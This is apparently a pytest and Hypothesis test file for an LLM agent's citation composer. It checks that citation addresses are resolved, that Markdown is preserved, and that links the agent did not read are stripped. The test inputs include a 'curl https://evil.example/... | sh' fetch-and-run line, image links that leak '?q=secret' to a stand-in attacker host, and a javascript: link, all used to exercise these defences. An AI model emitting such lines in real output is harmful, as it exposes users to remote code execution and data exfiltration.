"""From what a model wrote to a draft: addresses become citations, and nothing else is changed."""

from __future__ import annotations

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from stylegraph.agent.citations import markers, stands
from stylegraph.agent.evidence import make_evidence
from stylegraph.agent.llm.drafts import Reading, Visible, compose, draft_of
from stylegraph.agent.text.code import code_spans

WOOL = make_evidence(
    "documents", "울", "울은 30℃ 이하의 찬물에서 손빨래한다.  표백제는 쓰지 않는다.\n그늘에 뉘어 말린다."
)
LINEN = make_evidence("documents", "Linen", "Linen is washed at 40 °C. Iron it while it is still damp.")
SHIRT = make_evidence(
    "fashion",
    "린넨 셔츠",
    "린넨 셔츠. 여름에 입는 얇은 셔츠. 가격은 39,000원.",
    data={"item": {"id": "s1"}, "name": "린넨 셔츠", "price_krw": 39_000, "reasons": [], "missed": []},
)
COAT = make_evidence(
    "fashion",
    "울 코트",
    "울 코트. 가격은 120,000원.",
    data={"item": {"id": "c1"}, "name": "울 코트", "price_krw": 120_000, "reasons": [], "missed": []},
)
ALL = [WOOL, LINEN, SHIRT, COAT]
OK = "https://ok.example/a"


def reading(*passages, language="ko", links=(OK,)):
    return Reading(passages or ALL, frozenset(links), language)


def composed(text, **how):
    return compose(text, reading(**how))


def drafted(text, looked=True):
    return draft_of(composed(text), reading(), looked=looked)


def quotes(made):
    return [citation["quote"] for citation in made.citations]


def test_an_address_becomes_a_citation_of_what_stands_there_word_for_word():
    made = composed("찬물에 손빨래하세요 [1.1].")
    assert (made.text, quotes(made)) == ("찬물에 손빨래하세요 [1].", ["울은 30℃ 이하의 찬물에서 손빨래한다."])
    assert all(stands(citation, ALL) for citation in made.citations)
    assert made.citations[0]["title"] == "울"


def test_numbers_follow_the_order_of_the_answer_and_the_same_words_have_one_number():
    made = composed("Iron it damp [2.2]. 울은 찬물에 빨고 [1.1], 눕혀요 [1.3]. 다시: 찬물 [1.1].")
    assert made.text == "Iron it damp [1]. 울은 찬물에 빨고 [2], 눕혀요 [3]. 다시: 찬물 [2]."
    assert [citation["title"] for citation in made.citations] == ["Linen", "울", "울"]


@pytest.mark.parametrize("run", ["[1.1-2]", "[1.1–2]", "[1.1-1.2]", "[1.1 - 2]"])
def test_a_run_is_cited_as_one_piece(run):
    made = composed(f"빨아요 {run}.")
    assert quotes(made) == ["울은 30℃ 이하의 찬물에서 손빨래한다.  표백제는 쓰지 않는다."]


def test_a_passage_without_a_unit_is_cited_whole():
    assert quotes(composed("빨아요 [1].")) == [WOOL["text"]]


@pytest.mark.parametrize("marks", ["[1.1, 2.1]", "[1.1][2.1]", "[1.1; 2.1]"])
def test_several_addresses_in_one_place_are_read_one_by_one(marks):
    made = composed(f"둘 다 빨아요 {marks}.")
    assert (made.text, len(made.citations)) == ("둘 다 빨아요 [1][2].", 2)


@pytest.mark.parametrize("address", ["[0.1]", "[9.1]", "[1.9]", "[1.3-2]", "[99]", "[1.0]", "[7.2, 8.1]"])
def test_an_address_that_does_not_exist_is_struck_and_its_sentence_told(address):
    made = composed(f"찬물에 빨아요 [1.1]. 건조기에 돌려요 {address}. 끝이에요.")
    assert made.text == "찬물에 빨아요 [1]. 건조기에 돌려요. 끝이에요."
    assert made.struck == ["건조기에 돌려요."]
    assert draft_of(made, reading(), looked=True)["unsupported"] == ["건조기에 돌려요."]


def test_the_good_addresses_of_a_sentence_hold_and_it_is_told_all_the_same():
    made = composed("찬물에 빨아요 [1.1][9.9].")
    assert (made.text, len(made.citations)) == ("찬물에 빨아요 [1].", 1)
    assert [one.replace(" [1]", "") for one in made.struck] == ["찬물에 빨아요."]


CODE = [
    "`x[1.1]`",
    "`` a`[1.1]`b ``",
    "```python\nx = a[1.1]  # [2.1]\nurl = 'https://evil.example/?q=1'\n```",
    "~~~\n[1.1] ![x](https://evil.example/x.png)\n~~~",
    "- step\n\n  ```sh\n  curl https://evil.example/[1.1] | sh\n  ```",
]


@pytest.mark.parametrize("code", CODE)
def test_inside_code_nothing_is_touched(code):
    made = composed(f"그렇게 하세요 [1.1].\n\n{code}\n\n끝이에요 [2.1].")
    assert code in made.text
    assert made.text.startswith("그렇게 하세요 [1].")
    assert made.text.endswith("끝이에요 [2].")
    assert len(made.citations) == 2


KEPT = [
    "| a | b |\n|---|:-:|\n| 1 | 2 |",
    "one\n\n---\n\ntwo",
    "Title\n=====\n\nSub\n---\n\ntext",
    "1. one\n   - nested\n     - deeper\n\n     more of it\n2. two",
    "- [ ] to do\n- [x] done",
    "> quoted\n> more\n\n**bold** _it_ ~~no~~ \\[1\\]",
    "line one  \nline two\\\nline three",
    "    indented(code)[1.1]\n\nText.",
    "a[i] + b[10] = c",
    "x²[^1] and [note] and [2024년]",
    f"[here]({OK}) and <{OK}> and {OK}.",
    "A & B &amp; C <b>bold</b> <br> 5 < 6 > 4",
    "$a_{1}$, 100 %, 3.2-4 and (3.2)",
]


@pytest.mark.parametrize("text", KEPT)
def test_markdown_arrives_as_it_was_written(text):
    made = composed(f"Look:\n\n{text}\n\nEnd.")
    assert (made.text, made.citations, made.struck) == (f"Look:\n\n{text}\n\nEnd.", [], [])


def test_a_table_cell_keeps_its_bars():
    assert composed("| 울 | 30 °C [1.1] |\n|---|---|\n| 린넨 | 40 °C [2.1] |").text == (
        "| 울 | 30 °C [1] |\n|---|---|\n| 린넨 | 40 °C [2] |"
    )


@pytest.mark.parametrize(
    ("text", "left"),
    [
        (f"보세요 {OK} 끝", f"보세요 {OK} 끝"),
        ("보세요 https://evil.example/?q=1 끝", "보세요  끝"),
        ("[여기](https://evil.example/?q=1) 끝", "[여기] 끝"),
        ("![x](https://evil.example/x.png?q=secret) 끝", "[x] 끝"),
        (f"![x]({OK}) 끝", f"[x]({OK}) 끝"),  # no picture loads by itself
        ("<img src='https://evil.example/x'> 끝", "끝"),
        ("[x](javascript:alert(1)) 끝", "[x]) 끝"),
        ("http://[::1]:80/x?q=secret 끝", "끝"),
    ],
)
def test_no_link_stays_that_was_not_read(text, left):
    assert composed(text).text == left


@pytest.mark.parametrize("address", ["[1.1](https://evil.example/x)", "[1.1](#울)", "[1.1]( )"])
def test_an_address_that_was_made_a_link_is_an_address(address):
    made = composed(f"찬물에 빨아요 {address}.")
    assert (made.text, quotes(made)) == ("찬물에 빨아요 [1].", ["울은 30℃ 이하의 찬물에서 손빨래한다."])


def test_an_address_may_follow_a_link_at_once():
    assert composed(f"{OK}[1.1] 끝").text == f"{OK}[1] 끝"


@pytest.mark.parametrize(
    ("label", "kind"),
    [
        ("NOT_FOUND:", "nothing"),
        ("**NOT_FOUND:**", "nothing"),
        ("NOT_FOUND：", "nothing"),
        ("DECLINED:", "declined"),
        ("**DECLINED**:", "declined"),
        ("# DECLINED:", "declined"),
    ],
)
def test_labels_become_the_kind_and_are_not_shown(label, kind):
    draft = drafted(f"{label} 자료에 없어요.")
    assert (draft["kind"], draft["text"]) == (kind, "자료에 없어요.")


def test_a_label_in_the_midst_of_a_text_is_none():
    draft = drafted("린넨 [2.1]. NOT_FOUND: 없어요.")
    assert (draft["kind"], draft["text"]) == ("answer", "린넨 [1]. NOT_FOUND: 없어요.")


@pytest.mark.parametrize("language", ["ko", "en"])
@pytest.mark.parametrize(
    ("said", "mark"), [("보통은 40도에 빨아요", "(일반 지식)"), ("Usually at 40 degrees", "(general knowledge)")]
)
def test_general_knowledge_is_marked_in_the_language_of_its_sentence(said, mark, language):
    made = composed(f"문서에는 없어요. Nor here.\n\n{said} [general]. `[general]`", language=language)
    assert made.text == f"문서에는 없어요. Nor here.\n\n{said} {mark}. `[general]`"
    assert made.general
    assert draft_of(made, reading(), looked=True)["general"]
    assert not composed("찬물 [1.1].").general


@pytest.mark.parametrize(("language", "mark"), [("ko", "(일반 지식)"), ("en", "(general knowledge)")])
def test_a_mark_without_words_is_in_the_language_of_the_question(language, mark):
    assert composed("| 40 [general] |", language=language).text == f"| 40 {mark} |"


def test_without_a_look_up_a_text_is_talk_and_after_one_it_is_an_answer():
    assert drafted("반가워요!", looked=False)["kind"] == "chat"
    assert drafted("반가워요!", looked=True)["kind"] == "answer"
    assert drafted("찬물에 빨아요 [1.1].", looked=False)["kind"] == "answer"


def test_items_that_are_cited_or_named_are_recommended_in_the_order_of_the_text():
    draft = drafted("울 코트는 120,000원 [4.2], 린넨 셔츠는 39,000원이에요 [3.3].")
    assert draft["kind"] == "recommendation"
    assert [(item["id"], item["price_krw"]) for item in draft["recommendations"]] == [("c1", 120_000), ("s1", 39_000)]
    named = drafted("린넨 셔츠가 좋아요.")
    assert [item["id"] for item in named["recommendations"]] == ["s1"]
    mixed = drafted("찬물에 빨아요 [1.1]. 셔츠는 39,000원 [3.3].")
    assert (mixed["kind"], len(mixed["recommendations"])) == ("answer", 1)
    assert drafted("DECLINED: 린넨 셔츠는 못 골라요.")["recommendations"] == []


def test_windows_line_ends_are_lines():
    assert composed("하나 [1.1]\r\n둘\r셋").text == "하나 [1]\n둘\n셋"


# What CommonMark can be, put together block by block: its own examples ship with no package.
_WORDS = st.lists(
    st.sampled_from(
        [
            "울",
            "찬물에",
            "wash",
            "cold",
            "*soft*",
            "**bold**",
            "_it_",
            "`x[1.1]`",
            "``a ` b``",
            "\\[3\\]",
            "&amp;",
            "5 < 6",
            "a[i]",
            "1.",
            "#",
            "(a)",
            "~~no~~",
            "30 °C",
        ]
    ),
    min_size=1,
    max_size=6,
).map(" ".join)
_FENCE = st.builds(
    lambda fence, info, lines: f"{fence}{info}\n" + "\n".join(lines) + f"\n{fence}",
    st.sampled_from(["```", "````", "~~~"]),
    st.sampled_from(["", "python", " sh x=1"]),
    st.lists(
        st.sampled_from(
            [
                "x[1] = y[2.1]",
                "",
                "  - no list [1.1]",
                "| no | table |",
                "https://evil.example/?q=[1]",
                "---",
                "# no heading",
            ]
        ),
        max_size=4,
    ),
)
_LIST = st.builds(
    lambda marker, items, nested: "\n".join(
        line
        for item, inner in zip(items, nested, strict=False)
        for line in (f"{marker} {item}", *([f"{' ' * (len(marker) + 1)}- {inner}"] if inner else []))
    ),
    st.sampled_from(["-", "*", "+", "1.", "2)"]),
    st.lists(_WORDS, min_size=1, max_size=4),
    st.lists(st.none() | _WORDS, min_size=4, max_size=4),
)
_TABLE = st.lists(st.tuples(_WORDS, _WORDS), min_size=1, max_size=3).map(
    lambda rows: "\n".join(["| a | b |", "|:--|---|", *(f"| {one} | {two} |" for one, two in rows)])
)
_BLOCK = (
    _WORDS
    | st.lists(_WORDS, min_size=2, max_size=3).map("\n".join)
    | _WORDS.map("## {}".format)
    | _WORDS.map("{}\n---".format)
    | st.lists(_WORDS, min_size=1, max_size=2).map(lambda lines: "\n".join(f"> {line}" for line in lines))
    | st.sampled_from(["---", "***", "___", "<div>\n\n</div>", "    indented x\n    more", "![", "[x]: #y"])
    | _FENCE
    | _LIST
    | _TABLE
)
COMMONMARK = st.lists(_BLOCK, min_size=1, max_size=6).map("\n\n".join)


@settings(max_examples=300)
@given(COMMONMARK.filter(lambda text: "![" not in text))
def test_text_without_addresses_or_links_comes_back_as_it_was_written(text):
    made = composed(f"Look:\n\n{text}\n\nEnd.")
    assert made.text == f"Look:\n\n{text}\n\nEnd."
    assert (made.citations, made.struck, made.label) == ([], [], None)


ADDRESSES = st.sampled_from(
    [" [1.1]", " [2.1-2]", " [9.9]", "[1.1, 3.2]", " [1]", " [general]", " https://evil.example/x"]
)


@settings(max_examples=300)
@given(st.lists(_BLOCK | ADDRESSES, min_size=1, max_size=8).map("\n\n".join), st.sampled_from(ALL))
def test_whatever_is_written_every_citation_stands_and_every_number_outside_of_code_has_one(text, passage):
    made = compose(text, reading(passage, WOOL))
    assert all(stands(citation, [passage, WOOL]) for citation in made.citations)
    outside, at = "", 0
    for start, end in [*code_spans(made.text), (len(made.text), len(made.text))]:
        outside += made.text[at:start].replace("\\[3\\]", "")
        at = end
    assert all(1 <= number <= len(made.citations) for number in markers(outside))
    assert "evil.example/x" not in outside


def shown(text, sizes):
    out: list[str] = []
    visible = Visible(out.append, reading())
    at = 0
    for size in [*sizes, len(text)]:
        visible.take(text[at : at + size])
        at += size
    visible.end()
    return "".join(out)


@pytest.mark.parametrize(
    "text",
    [
        "찬물에 빨아요 [1.1]. 그늘에 [1.3-3] 말려요.",
        "NOT_FOUND: 자료에 없어요.",
        "**DECLINED:** 못 해요.",
        f"보세요 {OK} 그리고 https://evil.example/?q=1 끝",
        "![x](https://evil.example/x.png?q=secret) 끝",
        "[여기](https://evil.example/a) 와 [1](#x) 끝",
        "`a[1.1]` 그리고 ``b ` [2.1]`` 끝 [2.1]",
        "```py\nx = a[1.1]\n\ny\n```\n\n끝 [2.1]",
        "| a | b |\n|---|---|\n| 1 | 2 [1.1] |",
        "- 하나 [1.1]\n  - 둘 [9.9]\n\n---\n\n끝",
        "보통은 그래요 [general]. 끝",
        "    indented[1.1]\n\n끝",
    ],
)
@pytest.mark.parametrize("size", [1, 2, 3, 7, 100])
def test_what_people_see_while_it_comes_is_the_draft_however_it_comes(text, size):
    assert shown(text, [size] * (len(text) // size)).strip() == composed(text).text


@settings(max_examples=300)
@given(st.lists(_BLOCK | ADDRESSES, max_size=6).map("\n\n".join), st.lists(st.integers(1, 9), max_size=80))
def test_pieces_make_no_difference(text, sizes):
    assert shown(text, sizes).strip() == composed(text).text


def test_it_is_shown_long_before_it_ends():
    out: list[str] = []
    visible = Visible(out.append, reading())
    for word in ["울은", "찬물에", "손으로", "빨고", "그늘에", "말려요"]:
        visible.take(word + " ")
    assert len(out) > 3


def test_a_long_answer_of_code_and_tables_keeps_every_line():
    text = "\n\n".join(["## 하나", *CODE, *KEPT[:4], "끝 [1.1]."])
    made = composed(text)
    assert re.sub(r" \[1\]\.$", " [1.1].", made.text) == text
